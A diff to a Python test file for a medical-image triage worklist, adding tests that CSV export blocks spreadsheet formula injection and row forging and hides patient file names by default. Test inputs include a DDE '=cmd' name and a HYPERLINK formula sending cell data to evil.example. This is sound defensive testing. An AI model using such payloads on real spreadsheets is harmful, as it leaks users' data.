@@ -230,7 +230,7 @@ def test_persistence_across_instances(tmp_path: Path) -> None:
 
 def test_export_csv(wl: Worklist) -> None:
     wl.add_case(make_case("e", name="=cmd|calc.png", flags=["uncertain", "ood"], thumbnail=b"png"))
-    rows = list(csv.DictReader(io.StringIO(wl.export_csv().decode("utf-8"))))
+    rows = list(csv.DictReader(io.StringIO(wl.export_csv(hide_names=False).decode("utf-8"))))
     assert len(rows) == 1 and "thumbnail" not in rows[0]
     assert rows[0]["scan_id"] == "e" and rows[0]["flags"] == "uncertain;ood"
     assert rows[0]["name"].startswith("'")  # no spreadsheet formula injection
@@ -366,3 +366,40 @@ def test_a_v1_worklist_is_migrated_with_its_reviews(tmp_path: Path) -> None:
     case = Worklist(db).get("old")
     assert case["revision"] == 0 and case["note"] == "kept" and case["review_status"] == "confirmed"
     assert Worklist(db).review("old", "dr_a", note="new", expected_revision=0)["revision"] == 1
+
+
+def test_export_csv_a_bare_cr_in_a_note_cannot_forge_a_row(wl: Worklist) -> None:
+    """Issue 22 item 13: CR (and LF) in a note stay inside their cell; nothing becomes a formula row."""
+    wl.add_case(make_case("a", name="a.png"))
+    wl.add_case(make_case("b", name="b.png", risk=0.2))
+    wl.review("a", "Dr A", note='fine\r=HYPERLINK("http://evil.example/?x="&A1,"open")\rsecond')
+    wl.review("b", "Dr B", note="line 1\nline 2\r\n@SUM(1)")
+    data = wl.export_csv(hide_names=False)
+    assert b"\r" not in data  # a bare CR is a row break to Excel and LibreOffice
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
+    assert len(rows) == 3 and all(len(r) == len(rows[0]) for r in rows)
+    note = rows[0].index("note")
+    assert rows[1][note] == 'fine\n=HYPERLINK("http://evil.example/?x="&A1,"open")\nsecond'
+    assert rows[2][note] == "line 1\nline 2\n@SUM(1)"
+    assert all(r[0] in ("a", "b") for r in rows[1:])  # no forged row starting elsewhere
+
+
+def test_export_csv_hides_file_names_by_default(wl: Worklist, monkeypatch) -> None:
+    """Issue 22 item 13: without allow_phi, the export names a case by its id, not its file name."""
+    monkeypatch.delenv("TRIAGE_HIDE_FILE_NAMES", raising=False)
+    monkeypatch.delenv("TRIAGE_ALLOW_PHI", raising=False)
+    wl.add_case(make_case("0123456789abcdef", name="Doe^John_19310417_MRN12345.png"))
+    data = wl.export_csv().decode()
+    assert "Doe" not in data and "MRN12345" not in data
+    assert next(iter(csv.DictReader(io.StringIO(data))))["name"] == "case 0123456789ab"
+    monkeypatch.setenv("TRIAGE_ALLOW_PHI", "1")
+    assert "Doe^John_19310417_MRN12345.png" in wl.export_csv().decode()
+
+
+def test_search_by_case_id(wl: Worklist) -> None:
+    wl.add_case(make_case("abc123", name="x.png"))
+    wl.add_case(make_case("def456", name="abc.png"))
+    assert _ids(wl.list_cases(search="abc", search_in="scan_id")) == ["abc123"]
+    assert _ids(wl.list_cases(search="abc")) == ["def456"]
+    with pytest.raises(WorklistError):
+        wl.list_cases(search="x", search_in="note")
